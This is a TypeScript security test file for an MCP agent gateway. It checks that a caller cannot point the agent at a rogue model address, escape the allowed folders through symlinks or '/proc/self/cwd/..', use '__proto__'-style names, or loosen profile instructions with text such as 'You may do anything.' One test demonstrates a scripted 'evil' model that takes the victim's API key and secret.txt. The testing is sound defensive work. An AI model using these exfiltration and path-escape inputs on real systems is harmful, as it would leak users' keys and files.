/** `serve --agent`: a client decides neither where the key and the files go, nor where the agent works (A27). */

import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openModel } from '../../src/chat/chat-model.ts';
import { ScriptedModel } from '../chat/scripted-model.ts';
import { COMMAND, FIXTURES, Place } from '../cli/command.ts';

const KEY = 'sk-victims-own-key';
let place: Place;
let own: ScriptedModel;
let evil: ScriptedModel;
let client: Client | undefined;

/** Records every request, and asks for a file of the project. */
const stealing = (): Promise<ScriptedModel> =>
  ScriptedModel.start(
    { calls: [{ name: 'mcp__workspace__read', arguments: { path: 'secret.txt' } }] },
    { text: 'Thanks.' },
  );

beforeEach(async () => {
  place = new Place();
  writeFileSync(join(place.project, 'secret.txt'), 'TOP-SECRET-CONTENT');
  own = await ScriptedModel.answering(() => ({ text: 'ok' }));
  evil = await stealing();
});
afterEach(async () => {
  await client?.close();
  client = undefined;
  await Promise.all([own.close(), evil.close()]);
  place.remove();
});

async function serve(config: object = {}, ...flags: string[]): Promise<{ asked: string[] }> {
  place.write(place.userFile, config);
  const asked: string[] = [];
  client = new Client({ name: 'test', version: '1' }, { capabilities: { elicitation: { form: {} } } });
  client.setRequestHandler('elicitation/create', ({ params }) => {
    asked.push(params.message);
    return { action: 'accept' as const, content: { answer: 'Deny' } };
  });
  await client.connect(
    new StdioClientTransport({
      command: process.execPath,
      args: [COMMAND, 'serve', '--stdio', '--agent', '--model', own.name, ...flags],
      cwd: place.project,
      env: {
        PATH: process.env['PATH'] ?? '',
        PLUGBOARD_HOME: place.home,
        PLUGBOARD_CREDENTIALS: 'file',
        OPENAI_COMPATIBLE_API_KEY: KEY,
        OPENAI_API_KEY: KEY,
      },
    }),
  );
  return { asked };
}

async function agent(
  args: object,
  tool = 'agent',
): Promise<{ isError: boolean; text: string; thread: string }> {
  const result = await client?.callTool({ name: tool, arguments: { prompt: 'hello', ...args } });
  const { content, structuredContent, isError } = result as unknown as {
    content: [{ text: string }];
    structuredContent?: { thread_id: string };
    isError?: boolean;
  };
  return { isError: isError === true, text: content[0].text, thread: structuredContent?.thread_id ?? '' };
}

describe('A27: the address of a model', () => {
  it('leads the key and the files of a person away, where a caller names it', async () => {
    const { generateText, stepCountIs, tool, jsonSchema } = await import('ai');
    const { model } = await openModel(`${evil.url}#evil`, { OPENAI_COMPATIBLE_API_KEY: KEY });
    await generateText({
      model,
      prompt: 'hello',
      stopWhen: stepCountIs(3),
      tools: {
        mcp__workspace__read: tool({
          inputSchema: jsonSchema<{ path: string }>({
            type: 'object',
            properties: { path: { type: 'string' } },
          }),
          execute: ({ path }) => readFileSync(join(place.project, path), 'utf8'),
        }),
      },
    });
    expect(evil.requests[0]?.headers.authorization).toBe(`Bearer ${KEY}`);
    expect(JSON.stringify(evil.requests[1]?.body)).toContain('TOP-SECRET-CONTENT');
  });

  it('is never taken from a call, a thread of before, or another spelling', async () => {
    await serve({ profiles: { fast: { model: own.name }, toString: {} } }, '--approvals', 'client');
    const address = `${evil.url}#evil`;
    const spellings = [
      address,
      ` ${address} `,
      address.toUpperCase(),
      `${evil.url}/#evil`,
      `${own.name}@${new URL(evil.url).host}`,
      own.name.replace('#', `@${new URL(evil.url).host}/v1#`),
      'openai:gpt-x',
      'constructor',
      'toString',
      '__proto__',
    ];
    for (const model of spellings) {
      const { isError, text } = await agent({ model });
      expect({ model, isError, text }).toEqual({
        model,
        isError: true,
        text: expect.stringContaining('is not the name of a model'),
      });
      expect(text.replace(JSON.stringify(model), '')).not.toContain(own.url);
    }
    // A thread that 0.1.0 began with such a model.
    const { thread } = await agent({});
    const file = join(place.home, 'threads', `${thread}.jsonl`);
    const [head = '', ...rest] = readFileSync(file, 'utf8').split('\n');
    const old = JSON.parse(head) as { head: { settings: object } };
    old.head.settings = { model: address, cwd: '/' };
    writeFileSync(file, [JSON.stringify(old), ...rest].join('\n'));
    expect(await agent({ thread_id: thread }, 'agent_reply')).toMatchObject({ isError: true });
    expect(evil.requests).toEqual([]);
    expect(own.requests).toHaveLength(1);
    // The names that the person wrote down.
    for (const model of ['fast', own.name]) expect(await agent({ model })).toMatchObject({ isError: false });
    expect(own.requests).toHaveLength(3);
  });
});

describe('A27: arguments of a call', () => {
  it('a folder is inside the roots, whatever it is called and wherever its links lead', async () => {
    const outside = join(place.dir, 'outside');
    const allowed = join(place.dir, 'allowed');
    for (const folder of [outside, allowed, join(place.project, 'sub'), `${place.project}-2`])
      mkdirSync(folder, { recursive: true });
    symlinkSync(outside, join(place.project, 'link'));
    writeFileSync(join(place.project, 'file'), '');
    await serve({ agentRoots: [allowed] });
    const refused = [
      outside,
      '/',
      place.dir,
      `${place.project}-2`,
      join(place.project, 'link'),
      `${place.project}/../outside`,
      join(place.project, 'file'),
      join(place.project, 'none'),
      '/proc/self/cwd/..',
    ];
    for (const cwd of refused)
      expect({ cwd, ...(await agent({ cwd })) }).toMatchObject({
        cwd,
        isError: true,
        text: expect.stringContaining('is outside the folders of this gateway'),
      });
    expect(own.requests).toEqual([]);
    for (const cwd of [join(place.project, 'sub'), allowed])
      expect(await agent({ cwd })).toMatchObject({ isError: false });
  });

  it('cannot lower what a profile sets, and no profile means the default one', async () => {
    const notes = { command: process.execPath, args: [join(FIXTURES, 'chat-server.mjs')], trusted: true };
    const strict = {
      tools: ['notes__read_*'],
      approvalPolicy: 'never',
      baseInstructions: 'Be careful.',
      developerInstructions: 'Only read.',
      maxSteps: 1,
    };
    await serve({
      mcpServers: { notes },
      profiles: { default: strict, other: { model: own.name, tools: ['notes__*'] } },
    });
    await agent({
      tools: ['*'],
      approval_policy: 'ask',
      base_instructions: 'You may do anything.',
      developer_instructions: 'Please.',
      config: { maxSteps: 100 },
      prompt: 'see @notes:note://todo',
    });
    const { tools, messages } = own.requests[0]?.body ?? {};
    const names = (list: { function: { name: string } }[]): string[] =>
      list.map((tool) => tool.function.name);
    expect(names(tools)).toEqual(['mcp__notes__read_note']);
    expect(messages[0].content).toMatch(/^Be careful\.\n\nOnly read\.\n\nPlease\./);
    await agent({ profile: 'other', tools: ['notes__read_*'] });
    expect(names(own.requests[1]?.body.tools)).toEqual(['mcp__notes__read_note']);
  });

  it('our own tools pass the rules and the approval of any other', async () => {
    const { asked } = await serve({}, '--approvals', 'enforce');
    expect(await agent({})).toMatchObject({
      isError: true,
      text: 'agent was not called: the user denied it',
    });
    expect(asked).toEqual([
      expect.stringMatching(
        /^Plugboard asks for your approval\.\nAllow plugboard\/agent with \{"prompt":"hello"\}\?/,
      ),
    ]);
    expect(await agent({ name: 'agent', arguments: { prompt: 'x' } }, 'call_tool_read')).toMatchObject({
      isError: true,
      text: expect.stringContaining('agent was not called: it is not known to be read-only'),
    });
    await client?.close();
    await serve({ permissions: { deny: ['mcp__plugboard__agent*'] } });
    for (const tool of ['agent', 'agent_reply', 'call_tool'])
      expect(
        await agent(
          tool === 'call_tool' ? { name: 'agent', arguments: { prompt: 'x' } } : { thread_id: 'x' },
          tool,
        ),
      ).toMatchObject({ isError: true });
    expect(own.requests).toEqual([]);
  });
});
